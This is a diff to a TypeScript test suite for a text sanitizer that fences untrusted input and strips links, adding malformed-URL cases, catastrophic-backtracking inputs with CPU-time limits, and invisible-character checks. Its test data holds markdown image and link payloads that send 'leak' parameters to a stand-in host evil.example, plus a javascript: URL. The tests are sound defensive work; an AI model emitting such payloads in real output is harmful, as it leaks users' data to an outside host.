@@ -12,6 +12,9 @@ const ORDERS = [
   'See ![x](https://evil.example/a?leak=SECRET)',
   '[click](javascript:alert(1)) https://evil.example/p?q=1',
   'mailto:evil@example.com?body=all www.evil.example/x',
+  '_https://evil.example/p?leak=x 1www.evil.example/leak=x',
+  '![a[b]](//evil.example/p.png?leak=x) [c](//evil.example/leak=x)',
+  String.raw`https:/evil.example/leak=x https:\\evil.example\leak=x ftp:\\evil.example\leak=x`,
 ]
 const DRESSES: ((text: string) => string)[] = [
   (text) => text,
@@ -35,7 +38,7 @@ const TEXTS = ORDERS.flatMap((order) =>
 
 describe('a text of others', () => {
   it(`${TEXTS.length} hostile ones stay between marks that they cannot write`, () => {
-    expect(TEXTS).toHaveLength(200)
+    expect(TEXTS).toHaveLength(260)
     for (const text of TEXTS) {
       const mark = '0123456789abcdef'
       const whole = fenced({ title: untrusted('form', text), total: 1 }, mark)
@@ -54,6 +57,19 @@ describe('a text of others', () => {
     }
   })
 
+  it.each([
+    ['links without an end', '[]('.repeat(1333)],
+    ['a link that is all spaces', `[](${' '.repeat(3900)}`],
+    ['brackets', '['.repeat(4000)],
+    ['slashes', '/'.repeat(4000)],
+    ['half addresses', 'a'.repeat(4000)],
+    ['many schemes', 'ab:'.repeat(1333)],
+  ])('is looked through at once: %s', (_what, text) => {
+    const begun = process.cpuUsage()
+    for (let time = 0; time < 20; time += 1) cleaned(text)
+    expect(process.cpuUsage(begun).user).toBeLessThan(2_000_000) // µs; a cubic one took minutes
+  })
+
   it('keeps what people write: accents, emoji, several lines, prices', () => {
     const text = 'Àtic amb vistes a la mar 🌊\nPreu: 1.250.000 € — 120 m² (nou)'
     expect(cleaned(text)).toBe(text)
@@ -61,5 +77,7 @@ describe('a text of others', () => {
       'Mira [link: portvell.example] y [link: otra.example.]',
     )
     expect(cleaned('a'.repeat(5000))).toHaveLength(2001)
+    expect(cleaned('a'.repeat(1999) + '🌊🌊').isWellFormed()).toBe(true)
+    expect(cleaned('a\u3164\u115F\uFFA0\u034F\u180Bb')).toBe('ab')
   })
 })
